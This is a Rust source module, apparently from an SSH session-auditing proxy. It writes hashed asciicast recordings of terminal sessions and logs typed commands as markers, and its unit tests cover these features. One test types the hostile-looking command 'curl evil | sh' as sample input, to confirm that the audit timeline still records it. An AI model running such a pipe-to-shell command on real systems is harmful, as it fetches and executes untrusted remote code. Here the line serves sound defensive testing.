//! Session recordings on disk: open, write as the session goes, finalize with a hash.
//!
//! A `Recorder` owns one asciicast file under `recordings_dir/YYYY/MM/DD/<session>-<channel>.cast`
//! (UTC dates). Lines are buffered and flushed whenever the last flush is a second old, and by the
//! owner's one-second tick, so a crash loses at most about a second. The SHA-256 and size are
//! computed over exactly the bytes written, so finalizing needs no second read. Every error is
//! returned: the session layer decides (fail closed by default) what a failed recording means.
//! Recording content never reaches the logs.

pub mod asciicast;
pub mod querylog;
pub mod screen;

use std::fs::File;
use std::io::{BufWriter, Write};
use std::os::unix::fs::{DirBuilderExt, OpenOptionsExt};
use std::path::{Path, PathBuf};
use std::time::{Duration, Instant};

use sha2::{Digest, Sha256};
use time::OffsetDateTime;

use asciicast::{Code, Event, Header, Utf8Stream};
use screen::Screen;

#[derive(Debug, thiserror::Error)]
pub enum RecordingError {
    #[error("cannot create recording {path}: {source}")]
    Create {
        path: PathBuf,
        source: std::io::Error,
    },
    #[error("cannot write recording {path}: {source}")]
    Write {
        path: PathBuf,
        source: std::io::Error,
    },
}

/// A finished recording.
#[derive(Debug, Clone, PartialEq, Eq)]
pub struct Finalized {
    pub path: PathBuf,
    pub sha256: String,
    pub size: u64,
}

/// The path of a recording: `<dir>/YYYY/MM/DD/<session>-<channel>.<extension>`, UTC.
pub fn recording_path(
    dir: &Path,
    at: OffsetDateTime,
    session_id: &str,
    channel: u32,
    extension: &str,
) -> PathBuf {
    dated_path(dir, at, &format!("{session_id}-{channel}.{extension}"))
}

/// `<dir>/YYYY/MM/DD/<file_name>`, by the UTC date of `at`.
pub fn dated_path(dir: &Path, at: OffsetDateTime, file_name: &str) -> PathBuf {
    let at = at.to_offset(time::UtcOffset::UTC);
    dir.join(format!("{:04}", at.year()))
        .join(format!("{:02}", u8::from(at.month())))
        .join(format!("{:02}", at.day()))
        .join(file_name)
}

/// The `kind` of a terminal recording's row in the store.
pub const CAST_KIND: &str = "asciicast";
/// The `kind` of a query log's row in the store.
pub const QUERY_LOG_KIND: &str = "pg-query-log";

/// How often buffered lines must reach the file at the latest.
pub const FLUSH_INTERVAL: Duration = Duration::from_secs(1);

/// An append-only recording file that hashes what it writes: created 0600 in 0700 folders,
/// never overwriting, flushed at least every `FLUSH_INTERVAL`, synced when finalized.
pub struct HashedFile {
    path: PathBuf,
    file: BufWriter<File>,
    hasher: Sha256,
    size: u64,
    last_flush: Instant,
    /// Flush from `write_bytes` once the last flush is a second old; off when the owner flushes
    /// each second itself (`Recorder::flushed_by_owner`).
    timed_flush: bool,
}

impl HashedFile {
    pub fn create(path: PathBuf) -> Result<HashedFile, RecordingError> {
        let create_error = |source| RecordingError::Create {
            path: path.clone(),
            source,
        };
        if let Some(parent) = path.parent() {
            std::fs::DirBuilder::new()
                .recursive(true)
                .mode(0o700)
                .create(parent)
                .map_err(create_error)?;
        }
        let file = std::fs::OpenOptions::new()
            .write(true)
            .create_new(true)
            .mode(0o600)
            .open(&path)
            .map_err(create_error)?;
        Ok(HashedFile {
            path,
            file: BufWriter::new(file),
            hasher: Sha256::new(),
            size: 0,
            last_flush: Instant::now(),
            timed_flush: true,
        })
    }

    pub fn path(&self) -> &Path {
        &self.path
    }

    /// Appends `line` as given; flushes when the last flush is a second old.
    pub fn write_line(&mut self, line: &str) -> Result<(), RecordingError> {
        self.write_bytes(line.as_bytes())
    }

    /// Appends `bytes` (whole lines of UTF-8) as given; flushes when the last flush is a second
    /// old.
    pub fn write_bytes(&mut self, bytes: &[u8]) -> Result<(), RecordingError> {
        self.file
            .write_all(bytes)
            .map_err(|source| RecordingError::Write {
                path: self.path.clone(),
                source,
            })?;
        self.hasher.update(bytes);
        self.size += bytes.len() as u64;
        if self.timed_flush && self.last_flush.elapsed() >= FLUSH_INTERVAL {
            self.flush()?;
        }
        Ok(())
    }

    /// Whether appending `bytes` more would only copy them into the buffer: no system call, so
    /// nothing that can wait for the disk.
    pub fn buffers(&self, bytes: usize) -> bool {
        let spare = self.file.capacity() - self.file.buffer().len();
        bytes < spare && !(self.timed_flush && self.last_flush.elapsed() >= FLUSH_INTERVAL)
    }

    /// How many bytes were written, and the SHA-256 (hex) of them: what a checkpoint records
    /// (issue #18). Everything written is in the file once `flush` returned.
    pub fn progress(&self) -> (u64, String) {
        (self.size, hex::encode(self.hasher.clone().finalize()))
    }

    /// Pushes buffered lines to the file; owners call this at least every second.
    pub fn flush(&mut self) -> Result<(), RecordingError> {
        self.last_flush = Instant::now();
        self.file.flush().map_err(|source| RecordingError::Write {
            path: self.path.clone(),
            source,
        })
    }

    /// Flushes, then syncs the file's data to disk.
    pub fn sync(&mut self) -> Result<(), RecordingError> {
        self.flush()?;
        self.file
            .get_ref()
            .sync_data()
            .map_err(|source| RecordingError::Write {
                path: self.path.clone(),
                source,
            })
    }

    /// Syncs the file to disk and returns its hash and size.
    pub fn finalize(mut self) -> Result<Finalized, RecordingError> {
        let write_error = |path: &Path, source| RecordingError::Write {
            path: path.to_path_buf(),
            source,
        };
        self.file
            .flush()
            .map_err(|source| write_error(&self.path, source))?;
        self.file
            .get_ref()
            .sync_all()
            .map_err(|source| write_error(&self.path, source))?;
        Ok(Finalized {
            sha256: hex::encode(self.hasher.finalize()),
            size: self.size,
            path: self.path,
        })
    }
}

/// What a recording keeps of its channel.
#[derive(Debug, Clone, Copy, PartialEq, Eq)]
pub struct Capture {
    /// Keystrokes and other input (`i` events); a target's `record_input = false` turns it off.
    pub input: bool,
    /// The channel has a pty, so its output is what a terminal showed: always `o` text, as a
    /// replay must show it. Without one, chunks that are not text are kept as bytes (`O` and `I`
    /// events, see `asciicast`).
    pub terminal: bool,
}

/// Writes one asciicast v2 recording.
pub struct Recorder {
    file: HashedFile,
    started: Instant,
    output: Utf8Stream,
    input: Utf8Stream,
    capture: Capture,
    /// The line being built, kept between events so its allocation is reused.
    line: Vec<u8>,
    /// What a pty channel's terminal shows, so Enter can be recorded as a command (`m`) with
    /// the line the user saw (issue #19). Only pty channels: avt emulates about 25 MB/s, which
    /// a terminal's own rendering rate already bounds, while a byte stream (`cat`, `rsync`)
    /// runs at hundreds.
    screen: Option<Screen>,
    /// The terminal's size as last announced, for a screen started again.
    size: (u32, u32),
    /// Since when a pty channel's emulation is stopped for its cost: Enter still makes an
    /// `[untracked]` marker, and a fresh screen starts after `UNTRACKED_FOR`.
    untracked_since: Option<Instant>,
}

/// How long emulation stays off after a channel's output cost too much to render.
const UNTRACKED_FOR: Duration = Duration::from_secs(10);

impl std::fmt::Debug for Recorder {
    fn fmt(&self, formatter: &mut std::fmt::Formatter<'_>) -> std::fmt::Result {
        formatter
            .debug_struct("Recorder")
            .field("path", &self.file.path)
            .field("size", &self.file.size)
            .finish()
    }
}

impl Recorder {
    /// Creates the file (mode 0600, never overwriting) and writes the header.
    pub fn create(
        path: PathBuf,
        header: &Header,
        capture: Capture,
    ) -> Result<Recorder, RecordingError> {
        let mut recorder = Recorder {
            file: HashedFile::create(path)?,
            started: Instant::now(),
            output: Utf8Stream::default(),
            input: Utf8Stream::default(),
            capture,
            line: Vec::new(),
            screen: capture
                .terminal
                .then(|| Screen::new(header.width, header.height, false)),
            size: (header.width, header.height),
            untracked_since: None,
        };
        recorder.file.write_line(&asciicast::header_line(header))?;
        // An exec channel is one command: its marker opens the timeline, whole up to 64 KiB
        // (issue #19 review: cut at 1 KiB, a command padded past it hid its end from search).
        if let Some(command) = &header.command {
            let label = crate::text::cut(command, 64 * 1024);
            let line = asciicast::event_line(Duration::ZERO, &Event::Marker(label));
            recorder.file.write_line(&line)?;
        }
        recorder.file.flush()?;
        Ok(recorder)
    }

    pub fn path(&self) -> &Path {
        self.file.path()
    }

    /// The owner flushes each second itself (the cast writer's per-second flush job), so writes
    /// never flush by time: an event that fits the buffer then never makes a system call, wherever
    /// it is written.
    pub fn flushed_by_owner(mut self) -> Recorder {
        self.file.timed_flush = false;
        self
    }

    /// Whether recording an event of `bytes` terminal bytes would stay in memory: its line (at
    /// most six bytes a byte as text, 4/3 as base64, plus a held-back character and the event's
    /// frame) fits the buffer and no timed flush is due. Such an event cannot wait for the disk.
    pub fn stays_in_memory(&self, bytes: usize) -> bool {
        let line = bytes.saturating_add(4).saturating_mul(6).saturating_add(64);
        self.file.buffers(line)
    }

    /// Terminal output (stdout and stderr alike), as of now.
    pub fn output(&mut self, bytes: &[u8]) -> Result<(), RecordingError> {
        self.output_at(Instant::now(), bytes)
    }

    /// Terminal output that arrived at `at`: events written after they arrive (by a writer
    /// thread) keep their arrival time.
    pub fn output_at(&mut self, at: Instant, bytes: &[u8]) -> Result<(), RecordingError> {
        self.text_event(Code::Output, at, bytes)
    }

    /// Keystrokes, as of now; dropped when the target says `record_input = false`.
    pub fn input(&mut self, bytes: &[u8]) -> Result<(), RecordingError> {
        self.input_at(Instant::now(), bytes)
    }

    /// Keystrokes that arrived at `at`; dropped when the target says `record_input = false`.
    pub fn input_at(&mut self, at: Instant, bytes: &[u8]) -> Result<(), RecordingError> {
        if self.capture.input {
            self.text_event(Code::Input, at, bytes)?;
        }
        self.commands(at, bytes)
    }

    /// Each Enter (CR or LF) typed on a pty channel at the primary screen is a command: a marker
    /// whose label is the line at the cursor, with what the same packet typed before it and the
    /// target has not echoed yet (a pasted line). Written whether or not keystrokes are kept:
    /// the label is what the screen showed, which is recorded anyway.
    fn commands(&mut self, at: Instant, bytes: &[u8]) -> Result<(), RecordingError> {
        if !bytes.iter().any(|byte| matches!(byte, b'\r' | b'\n')) {
            return Ok(());
        }
        let Some(screen) = self.screen.as_ref() else {
            if self.untracked_since.is_none() {
                return Ok(());
            }
            // Rendering is off for its cost: Enter is still a command, without its line.
            let typed = String::from_utf8_lossy(bytes);
            let pieces: Vec<&str> = typed.split(['\r', '\n']).collect();
            for piece in &pieces[..pieces.len().saturating_sub(1)] {
                let label = match self.capture.input {
                    true => screen::command_line("[untracked]", piece),
                    false => Some("[untracked]".to_string()),
                };
                if let Some(label) = label {
                    self.marker(at, &label)?;
                }
            }
            return Ok(());
        };
        let elapsed = at.saturating_duration_since(self.started);
        // What was typed joins a label only when keystrokes are kept: a password pasted at a
        // prompt with Enter must not reach a marker under `record_input = false`.
        let typed = String::from_utf8_lossy(bytes);
        let mut labels = Vec::new();
        // In a full-screen program (an editor, `tmux`) the line is marked as such: it may be a
        // shell inside `tmux` or a line of a file being edited.
        let mut on_screen = screen
            .line_at_cursor()
            .map(|line| match screen.full_screen() {
                true => format!("[full screen] {line}"),
                false => line,
            });
        let mut pieces = typed.split(['\r', '\n']).peekable();
        while let Some(piece) = pieces.next() {
            if pieces.peek().is_none() {
                break; // what follows the last Enter is not a command yet
            }
            let piece = if self.capture.input { piece } else { "" };
            // After the first Enter of a packet the screen has not caught up: only typed text.
            let shown = on_screen.take();
            if shown.is_none() && piece.is_empty() {
                continue;
            }
            if let Some(label) = screen::command_line(shown.as_deref().unwrap_or(""), piece) {
                labels.push(label);
            }
        }
        for label in labels {
            let line = asciicast::event_line(elapsed, &Event::Marker(label));
            self.file.write_line(&line)?;
        }
        Ok(())
    }

    pub fn resize(&mut self, width: u32, height: u32) -> Result<(), RecordingError> {
        self.resize_at(Instant::now(), width, height)
    }

    pub fn resize_at(
        &mut self,
        at: Instant,
        width: u32,
        height: u32,
    ) -> Result<(), RecordingError> {
        self.size = (width, height);
        if let Some(screen) = self.screen.as_mut() {
            screen.resize(width, height);
        }
        let elapsed = at.saturating_duration_since(self.started);
        let line = asciicast::event_line(elapsed, &Event::Resize { width, height });
        self.file.write_line(&line)
    }

    /// Decodes `bytes` and escapes them straight into the reused line buffer; no event for bytes
    /// that are only the start of a character. Without a pty, a chunk that is not text goes into
    /// an `O` or `I` event as it is, with whatever was held back before it.
    fn text_event(&mut self, code: Code, at: Instant, bytes: &[u8]) -> Result<(), RecordingError> {
        let (stream, bytes_code) = match code {
            Code::Input => (&mut self.input, Code::InputBytes),
            _ => (&mut self.output, Code::OutputBytes),
        };
        let mut line = std::mem::take(&mut self.line);
        line.clear();
        asciicast::begin_event(&mut line, at.saturating_duration_since(self.started), code);
        let empty = line.len();
        let mut screen = match code {
            Code::Output => self.screen.as_mut(),
            _ => None,
        };
        let escape = |text: &str| {
            asciicast::escape_json_into(text, &mut line);
            if let Some(screen) = screen.as_mut() {
                screen.feed(text);
            }
        };
        let text = if self.capture.terminal {
            stream.decode(bytes, escape);
            true
        } else {
            stream.decode_text(bytes, escape)
        };
        if !text {
            let held = stream.take_pending();
            self.line = line;
            if held.is_empty() {
                return self.bytes_event(bytes_code, at, bytes);
            }
            // Rare: a character split across packets, then bytes that are not text.
            let joined = [held.as_slice(), bytes].concat();
            return self.bytes_event(bytes_code, at, &joined);
        }
        let written = if line.len() > empty {
            asciicast::end_event(&mut line);
            self.file.write_bytes(&line)
        } else {
            Ok(())
        };
        self.line = line;
        written?;
        if self.screen.as_ref().is_some_and(Screen::over_budget) {
            // Said in the recording, so a reviewer knows why labels stop here.
            self.screen = None;
            self.untracked_since = Some(at);
            self.marker(
                at,
                "portcullis: command lines are not rendered for the next 10 s: the output cost \
                 more to render than a session may",
            )?;
        } else if self.screen.is_none()
            && self
                .untracked_since
                .is_some_and(|since| at.saturating_duration_since(since) >= UNTRACKED_FOR)
        {
            // A fresh screen with a fresh budget: it does not know what was drawn before, but
            // the next prompt and command are drawn anew.
            self.untracked_since = None;
            self.screen = Some(Screen::new(self.size.0, self.size.1, false));
            self.marker(at, "portcullis: command lines are rendered again")?;
        }
        Ok(())
    }

    fn marker(&mut self, at: Instant, label: &str) -> Result<(), RecordingError> {
        let line = asciicast::event_line(
            at.saturating_duration_since(self.started),
            &Event::Marker(label.to_string()),
        );
        self.file.write_line(&line)
    }

    /// Writes `bytes` as one base64 event into the reused line buffer.
    fn bytes_event(&mut self, code: Code, at: Instant, bytes: &[u8]) -> Result<(), RecordingError> {
        let mut line = std::mem::take(&mut self.line);
        line.clear();
        asciicast::begin_event(&mut line, at.saturating_duration_since(self.started), code);
        asciicast::base64_into(bytes, &mut line);
        asciicast::end_event(&mut line);
        let written = self.file.write_bytes(&line);
        self.line = line;
        written
    }

    /// Pushes buffered lines to the file; the owner calls this at least every second.
    pub fn flush(&mut self) -> Result<(), RecordingError> {
        self.file.flush()
    }

    /// The terminal's current screen as escape sequences that draw it (pty channels only):
    /// where a live watch starts (issue #19).
    pub fn screen_dump(&self) -> Option<String> {
        self.screen.as_ref().map(Screen::dump)
    }

    /// Bytes written to the file and their SHA-256 so far (see `HashedFile::progress`).
    pub fn progress(&self) -> (u64, String) {
        self.file.progress()
    }

    /// Writes what is held back, syncs the file to disk and returns its hash and size. Without a
    /// pty the held-back bytes are kept as they are; a terminal's become U+FFFD, as it showed them.
    pub fn finalize(mut self) -> Result<Finalized, RecordingError> {
        let now = Instant::now();
        if self.capture.terminal {
            let rest = self.output.finish();
            if !rest.is_empty() {
                let line = asciicast::event_line(
                    now.saturating_duration_since(self.started),
                    &Event::Output(rest),
                );
                self.file.write_line(&line)?;
            }
        } else {
            let output = self.output.take_pending();
            let input = self.input.take_pending();
            for (code, rest) in [(Code::OutputBytes, output), (Code::InputBytes, input)] {
                if !rest.is_empty() {
                    self.bytes_event(code, now, &rest)?;
                }
            }
        }
        self.file.finalize()
    }
}

#[cfg(test)]
mod tests {
    use super::*;

    const TERMINAL: Capture = Capture {
        input: true,
        terminal: true,
    };
    const NO_INPUT: Capture = Capture {
        input: false,
        terminal: true,
    };

    fn header() -> Header {
        Header {
            width: 80,
            height: 24,
            timestamp: 0,
            title: "alice → web-1".into(),
            command: None,
            term: None,
            env: Vec::new(),
        }
    }

    #[test]
    fn keystrokes_stay_in_memory_and_bulk_packets_do_not() -> Result<(), Box<dyn std::error::Error>>
    {
        let dir = tempfile::tempdir()?;
        let path = dir.path().join("s-abc-0.cast");
        let mut recorder = Recorder::create(path, &header(), TERMINAL)?;
        // Issue #3: an echo can be written where it arrives, past bulk packets queued for the
        // writer thread; an SSH packet of output may reach the kernel and wait for the disk.
        assert!(recorder.stays_in_memory(1));
        assert!(recorder.stays_in_memory(64));
        assert!(!recorder.stays_in_memory(32 * 1024));
        assert!(!recorder.stays_in_memory(usize::MAX));
        // The buffer fills: what no longer fits would reach the kernel.
        while recorder.stays_in_memory(100) {
            recorder.output(&[b'x'; 100])?;
        }
        recorder.flush()?;
        assert!(recorder.stays_in_memory(100));
        Ok(())
    }

    /// Issue #19 review: a password pasted at a prompt with its Enter in one packet must not
    /// reach a command marker when keystrokes are not kept.
    #[test]
    fn typed_text_joins_a_marker_only_when_keystrokes_are_kept()
    -> Result<(), Box<dyn std::error::Error>> {
        let dir = tempfile::tempdir()?;
        for (capture, name) in [(TERMINAL, "kept"), (NO_INPUT, "not-kept")] {
            let path = dir.path().join(format!("{name}.cast"));
            let mut recorder = Recorder::create(path.clone(), &header(), capture)?;
            recorder.output(b"[sudo] password for alice: ")?;
            recorder.input(b"hunter2\r")?;
            recorder.finalize()?;
            let text = std::fs::read_to_string(&path)?;
            let marker = text
                .lines()
                .find(|line| line.contains("\"m\""))
                .ok_or_else(|| format!("no marker in {name}: {text}"))?;
            assert_eq!(
                capture.input,
                marker.contains("hunter2"),
                "{name}: {marker}"
            );
        }
        Ok(())
    }

    /// Issue #19 review: output made to cost too much to render stops the rendering, not the
    /// timeline: Enter still makes a marker, and rendering starts again later.
    #[test]
    fn costly_output_cannot_switch_the_command_timeline_off()
    -> Result<(), Box<dyn std::error::Error>> {
        let dir = tempfile::tempdir()?;
        let path = dir.path().join("costly.cast");
        let mut wide = header();
        (wide.width, wide.height) = (400, 200);
        let mut recorder = Recorder::create(path.clone(), &wide, TERMINAL)?;
        let costly = "\x1b#8\x1b[2J".repeat(500);
        let mut rounds = 0;
        while recorder.screen.is_some() && rounds < 100_000 {
            recorder.output(costly.as_bytes())?;
            rounds += 1;
        }
        assert!(
            recorder.screen.is_none(),
            "still rendering after {rounds} rounds"
        );
        recorder.input(b"curl evil | sh\r")?;
        recorder.finalize()?;
        let text = std::fs::read_to_string(&path)?;
        let markers: Vec<&str> = text.lines().filter(|line| line.contains("\"m\"")).collect();
        assert!(
            markers
                .iter()
                .any(|line| line.contains("[untracked] curl evil | sh")),
            "{markers:?}"
        );
        Ok(())
    }

    #[test]
    fn a_recording_hashes_exactly_what_it_wrote() -> Result<(), Box<dyn std::error::Error>> {
        let dir = tempfile::tempdir()?;
        let at = time::macros::datetime!(2026-11-02 23:59:59 UTC);
        let path = recording_path(dir.path(), at, "s-abc", 0, "cast");
        assert!(path.ends_with("2026/11/02/s-abc-0.cast"));
        let mut recorder = Recorder::create(path.clone(), &header(), NO_INPUT)?;
        recorder.output(b"hello\r\n")?;
        recorder.input(b"secret typed")?;
        recorder.resize(100, 30)?;
        let finalized = recorder.finalize()?;
        let bytes = std::fs::read(&path)?;
        assert_eq!(finalized.size, bytes.len() as u64);
        assert_eq!(finalized.sha256, hex::encode(Sha256::digest(&bytes)));
        let text = String::from_utf8(bytes)?;
        assert_eq!(text.lines().count(), 3, "input is off: {text}");
        assert!(!text.contains("secret"));
        // Never overwrites an existing recording.
        assert!(Recorder::create(path, &header(), TERMINAL).is_err());
        Ok(())
    }

    /// Issue #3: a channel without a pty is a byte stream (`cat` of a file, `rsync`, `git`).
    /// Whatever the bytes and however they are cut, its recording gives them back exactly: text
    /// chunks as `o` text, the rest as base64 `O` events. A pty channel records the same stream as
    /// text alone, what a terminal would show.
    #[test]
    fn a_stream_without_a_pty_is_recorded_without_losing_a_byte()
    -> Result<(), Box<dyn std::error::Error>> {
        let pieces = asciicast::testing::ALPHABET;
        let mut next = asciicast::testing::random_below(0x2545_f491_4f6c_dd1d);
        let mut stream = Vec::new();
        for _ in 0..2_000 {
            stream.extend_from_slice(pieces[next(pieces.len())]);
        }
        let dir = tempfile::tempdir()?;
        for terminal in [false, true] {
            let path = dir.path().join(format!("s-abc-{terminal}.cast"));
            let capture = Capture {
                input: true,
                terminal,
            };
            let mut recorder = Recorder::create(path.clone(), &header(), capture)?;
            let mut rest = stream.as_slice();
            while !rest.is_empty() {
                let (chunk, after) = rest.split_at((next(64) + 1).min(rest.len()));
                recorder.output(chunk)?;
                recorder.input(chunk)?;
                rest = after;
            }
            recorder.finalize()?;
            let text = std::fs::read_to_string(&path)?;
            let mut output = Vec::new();
            let mut input = Vec::new();
            let mut codes = std::collections::BTreeSet::new();
            for line in text.lines().skip(1) {
                let event: serde_json::Value = serde_json::from_str(line)?;
                let code = event[1].as_str().unwrap_or_default().to_string();
                if code == "m" {
                    // A pty channel's Enter is a command marker (issue #19), not stream bytes.
                    assert!(terminal, "markers only on a pty channel");
                    continue;
                }
                let data = event[2].as_str().unwrap_or_default();
                let bytes = match code.as_str() {
                    "O" | "I" => {
                        base64::Engine::decode(&base64::engine::general_purpose::STANDARD, data)?
                    }
                    _ => data.as_bytes().to_vec(),
                };
                match code.as_str() {
                    "o" | "O" => output.extend_from_slice(&bytes),
                    _ => input.extend_from_slice(&bytes),
                }
                codes.insert(code);
            }
            if terminal {
                assert_eq!(codes.into_iter().collect::<Vec<_>>(), ["i", "o"]);
                assert_eq!(output, String::from_utf8_lossy(&stream).as_bytes());
            } else {
                assert_eq!(codes.into_iter().collect::<Vec<_>>(), ["I", "O", "i", "o"]);
                assert!(output == stream, "output differs");
                assert!(input == stream, "input differs");
            }
        }
        Ok(())
    }
}
